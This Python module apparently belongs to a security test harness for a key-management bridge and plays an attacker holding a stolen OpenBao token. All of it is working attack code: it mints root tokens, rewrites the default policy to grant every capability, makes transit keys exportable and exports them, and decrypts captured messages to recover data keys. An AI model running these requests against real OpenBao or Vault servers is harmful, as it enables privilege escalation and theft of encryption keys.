"""Asks OpenBao for everything that might help, with a stolen token."""

from __future__ import annotations

import base64
import contextlib
import functools
import re
from collections.abc import Iterator, Mapping
from typing import Any, Final

import requests

from examples.roles.attacker import search
from examples.roles.customers import Place, Values
from kmsbridge.context import EncryptionContext
from kmsbridge.message import parse_header

_KEY: Final = re.compile(rb"vault-transit:(?://|[\w.-]*:[\w%/.-]*:)?([\w-]+)/([\w-]+)")
"""A mount and a key, as a configuration names them, or a key id in a message after the server and its namespace."""
_TOKEN: Final = re.compile(r"s\.\w{24}")
_TIMEOUT: Final = 30
_MOST: Final = 4096

Request = tuple[str, str, Mapping[str, Any] | None]


def secrets(server: str, token: str, files: Mapping[str, bytes], messages: Values) -> set[bytes]:
    """Return whatever the server gives the holder of `token` that may be a data key."""
    named = {pair for data in (*files.values(), *messages.values()) for pair in _KEY.findall(data)}
    keys = frozenset((mount.decode(), key.decode()) for mount, key in named)
    said = set(_asked(server, token, keys, tuple(messages.items())))
    for other in {each for each in said if _TOKEN.fullmatch(each)} - {token}:  # made for us, it may do more
        said |= _asked(server, other, keys, tuple(messages.items()))
    return {piece for text in said for piece in _pieces(text)}


@functools.cache
def _asked(
    server: str, token: str, keys: frozenset[tuple[str, str]], messages: tuple[tuple[Place, bytes], ...]
) -> frozenset[str]:
    """Return every text in the server's answers. Who holds the same as another attacker would be told the same."""
    said: set[str] = set()
    with requests.Session() as session:
        session.trust_env = False
        session.headers["X-Vault-Token"] = token
        for method, path, body in _requests(keys, dict(messages)):
            answer = session.request(method, f"{server}/v1/{path}", json=body, timeout=_TIMEOUT)
            with contextlib.suppress(requests.JSONDecodeError):
                said.update(_texts(answer.json()))
    return frozenset(said)


def _requests(keys: frozenset[tuple[str, str]], messages: Values) -> Iterator[Request]:
    yield "GET", "auth/token/lookup-self", None
    yield "POST", "auth/token/create", {"policies": ["root"]}
    yield "POST", "auth/token/create", {}
    yield "POST", "auth/token/create-orphan", {"policies": ["root"]}
    for path in (
        "sys/mounts",
        "sys/policies/acl?list=true",
        "sys/auth",
        "sys/audit",
        "sys/raw/core?list=true",
    ):
        yield "GET", path, None
    yield "GET", "cubbyhole/?list=true", None
    everything = 'path "*" { capabilities = ["create", "read", "update", "delete", "list", "sudo"] }'
    yield "POST", "sys/policies/acl/default", {"policy": everything}
    for mount in sorted({mount for mount, _ in keys}):
        yield "GET", f"{mount}/keys?list=true", None
        for key in sorted({key for _, key in keys}):
            yield from _about_key(mount, key)
            for place, message in messages.items():
                yield from _about_message(mount, key, place, message)


def _about_key(mount: str, key: str) -> Iterator[Request]:
    yield "GET", f"{mount}/keys/{key}", None
    yield "POST", f"{mount}/keys/{key}/config", {"exportable": True, "allow_plaintext_backup": True}
    yield "GET", f"{mount}/backup/{key}", None
    for kind in ("encryption-key", "signing-key", "hmac-key"):
        yield "GET", f"{mount}/export/{kind}/{key}", None
    yield "GET", f"{mount}/byok-export/{key}/{key}", None
    yield "POST", f"{mount}/datakey/plaintext/{key}", {}
    yield "POST", f"{mount}/hmac/{key}", {"input": ""}
    yield "POST", f"{mount}/restore/{key}-copy", {"backup": ""}


def _about_message(mount: str, key: str, place: Place, message: bytes) -> Iterator[Request]:
    for recipient in parse_header(message).recipients:
        if not recipient.wrapped.startswith(b"vault:"):
            continue
        context = EncryptionContext.of(place.context)
        right = _item(recipient.wrapped, context.with_reserved(kmsbridge="dek"))
        others = [
            _item(recipient.wrapped, each) for each in (context, context.with_reserved(kmsbridge="direct"))
        ]
        yield "POST", f"{mount}/decrypt/{key}", right
        yield "POST", f"{mount}/decrypt/{key}", {"ciphertext": recipient.wrapped.decode()}
        yield "POST", f"{mount}/decrypt/{key}", {"batch_input": [*others, right]}
        yield "POST", f"{mount}/rewrap/{key}", right
        yield "POST", f"{mount}/rewrap/{key}", {"batch_input": [*others, right]}
        yield "POST", f"{mount}/encrypt/{key}", {"batch_input": [right | {"plaintext": ""}]}


def _item(wrapped: bytes, context: EncryptionContext) -> dict[str, str]:
    return {"ciphertext": wrapped.decode(), "associated_data": base64.b64encode(context.canonical()).decode()}


def _texts(answer: Any) -> Iterator[str]:
    if isinstance(answer, str):
        yield answer
    elif isinstance(answer, dict | list):
        for each in answer.values() if isinstance(answer, dict) else answer:
            yield from _texts(each)


def _pieces(text: str) -> Iterator[bytes]:
    """Yield the data keys that a text of an answer may hold."""
    with contextlib.suppress(ValueError):
        yield from search.windows(base64.b64decode(text.removeprefix("vault:v1:"), validate=True)[:_MOST])
